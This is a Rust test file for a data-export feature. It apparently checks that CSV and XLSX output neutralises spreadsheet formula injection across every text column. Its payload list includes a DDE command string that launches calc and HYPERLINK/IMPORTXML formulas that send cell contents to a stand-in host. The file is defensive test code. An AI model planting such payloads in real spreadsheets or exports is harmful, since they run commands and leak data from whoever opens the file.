//! Formula injection: 60 payloads in every column that holds text, read back from both formats by
//! other readers.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use chrono::DateTime;
use tokio::sync::mpsc;

use super::*;
use crate::files::guard::unguard;
use crate::store::tidy::{Kind, TABLES};

fn payloads() -> Vec<String> {
    let starts =
        ["=", "+", "-", "@", "\t=", "\r=", " =", "\u{a0}=", "\u{feff}=", "\"=", "\u{200b}+", "'="];
    let bodies = [
        "1+1",
        "HYPERLINK(\"http://e.example/?\"&A1,\"x\")",
        "cmd|' /C calc'!A0",
        "SUM(A1:A9)",
        "IMPORTXML(CONCAT(\"http://e.example/\",A1),\"//a\")",
    ];
    starts
        .iter()
        .flat_map(|start| bodies.iter().map(move |body| format!("{start}{body}")))
        .collect()
}

/// What a spreadsheet would run: said a second time on purpose.
fn live(text: &str) -> bool {
    let spaces = |c: char| {
        (c.is_whitespace() && !"\t\r\n".contains(c)) || "\u{feff}\u{200b}\u{2060}\"".contains(c)
    };
    text.trim_start_matches(spaces).starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Every table with each payload in every column that holds text.
fn parts() -> mpsc::Receiver<Part> {
    let (to, parts) = mpsc::channel(WAITING);
    std::thread::spawn(move || {
        for table in &TABLES {
            to.blocking_send(Part::Table(table)).unwrap();
            let rows = payloads().into_iter().enumerate().map(|(n, payload)| {
                let cell = |(at, kind): (usize, Kind)| match kind {
                    // A file's name is of these.
                    Kind::Service if table.name == "editions" && at == 0 => {
                        Cell::Text(format!("north{n}"))
                    }
                    Kind::Number(_) | Kind::NumberOrNone(_) => Cell::Number(7),
                    Kind::Day | Kind::Week | Kind::WeekOrNone => Cell::Empty,
                    _ => Cell::Text(payload.clone()),
                };
                table.columns.iter().map(|column| column.kind).enumerate().map(cell).collect()
            });
            to.blocking_send(Part::Rows(rows.collect())).unwrap();
        }
        to.blocking_send(Part::End).unwrap();
    });
    parts
}

fn now() -> DateTime<Utc> {
    DateTime::from_timestamp(1_790_000_000, 0).unwrap()
}

/// Counts the cells that are live; each payload must be there, and come back.
fn check(table: &Table, cells: &[String]) -> usize {
    if table.columns.iter().any(|column| matches!(column.kind, Kind::Text(_))) {
        for payload in payloads() {
            let found = cells.iter().any(|cell| unguard(cell) == payload);
            assert!(found, "{} has lost {payload:?}", table.name);
        }
    }
    cells.iter().filter(|cell| live(cell)).count()
}

#[test]
fn no_payload_is_live_in_a_folder() {
    assert_eq!(payloads().len(), 60);
    let path = std::env::temp_dir().join(format!("beforehand-d5-{}", std::process::id()));
    let _ = fs::remove_dir_all(&path);
    let mut folder = Folder::new(&path).unwrap();
    let seen = drain(parts(), &mut folder).unwrap();
    folder.finish(&seen, now()).unwrap();
    let mut found = 0;
    for table in &TABLES {
        let file = fs::read(path.join(format!("{}.csv", table.name))).unwrap();
        let mut csv = csv::Reader::from_reader(&file[3..]);
        let rows = csv.records().map(|row| row.unwrap());
        let cells = rows.flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>());
        found += check(table, &cells.collect::<Vec<_>>());
    }
    fs::remove_dir_all(&path).unwrap();
    assert_eq!(found, 0, "live payloads");
}

#[test]
fn no_payload_is_live_in_a_workbook() {
    let bytes = book(parts(), now()).unwrap();
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let mut found = 0;
    for table in &TABLES {
        let range = book.worksheet_range(table.name).unwrap();
        let text = |cell: &Data| match cell {
            Data::String(text) => Some(text.clone()),
            _ => None,
        };
        let cells: Vec<_> = range.rows().flatten().filter_map(text).collect();
        found += check(table, &cells);
        let formulas = book.worksheet_formula(table.name).unwrap();
        found += formulas.rows().flatten().filter(|formula| !formula.is_empty()).count();
    }
    assert_eq!(found, 0, "live payloads");
}
